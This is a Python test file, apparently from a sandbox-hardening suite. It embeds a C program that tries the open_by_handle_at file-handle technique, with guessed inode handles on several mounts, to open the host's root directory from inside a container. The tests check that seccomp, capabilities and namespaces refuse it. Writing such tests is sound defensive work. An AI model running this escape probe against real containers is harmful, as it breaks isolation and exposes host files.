"""FS-12: open the host's root directory by a guessed file handle, past every mount."""
import errno

from escape.lib_files import all_refused

TITLE = "file handles"
TRIED = "open_by_handle_at of inodes 1, 2, 64, 128 with guessed and given handles on 5 mounts; name_to_handle_at"
WALLS = ["seccomp", "capabilities", "user_namespace"]

SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct { unsigned bytes; int type; unsigned char data[128]; } handle;

static void say(const char *what, const char *where, long done)
{
    printf("%s:%s %d\n", what, where, done < 0 ? errno : 0);
}

int main(int argc, char **argv)
{
    static const unsigned inodes[] = {2, 1, 64, 128, 256};
    int mount_id;

    for (int i = 1; i < argc; i++) {
        int at = open(argv[i], O_RDONLY);
        handle.bytes = sizeof handle.data;
        long named = syscall(SYS_name_to_handle_at, AT_FDCWD, argv[i], &handle, &mount_id, 0);
        say("name", argv[i], named);
        if (named == 0)
            say("given", argv[i], syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY));
        for (unsigned k = 0; k < sizeof inodes / sizeof *inodes; k++) {
            char word[32];
            memset(&handle, 0, sizeof handle);
            handle.bytes = 8;
            handle.type = 1; /* inode and generation, 32 bits each */
            memcpy(handle.data, &inodes[k], 4);
            snprintf(word, sizeof word, "inode-%u", inodes[k]);
            say(word, argv[i], syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY));
        }
    }
    return 0;
}
"""
PLACES = ["/", "/usr", "/workspace", "/tmp", "/proc"]


def tried(box, command=(), **more):
    result = box.run([*command, box.c(SOURCE), *PLACES], **more)
    assert result.verdict == "ok", result
    rows = (line.split() for line in result.text.splitlines())
    return {way: errno.errorcode[int(code)] if int(code) else "done" for way, code in rows}


def attack(box):
    return all_refused(tried(box), "ESCAPE")


def control(box):
    """Without the filter handles are given out; with the host's root privilege one opens."""
    named = [way for way, word in tried(box, without=["seccomp"]).items() if word == "done"]
    assert "name:/usr" in named, named
    if box.situation != "root":
        return f"{len(named)} handles given out"
    # At a level without a file system of its own the program is run where it lies.
    found = tried(box, ["env"], flags=["--isolation", "subprocess"])
    opened = [way for way, word in found.items() if word == "done" and not way.startswith("name:")]
    assert "given:/" in opened, opened
    return f"{len(named)} handles given out; with root and no walls {len(opened)} opened"
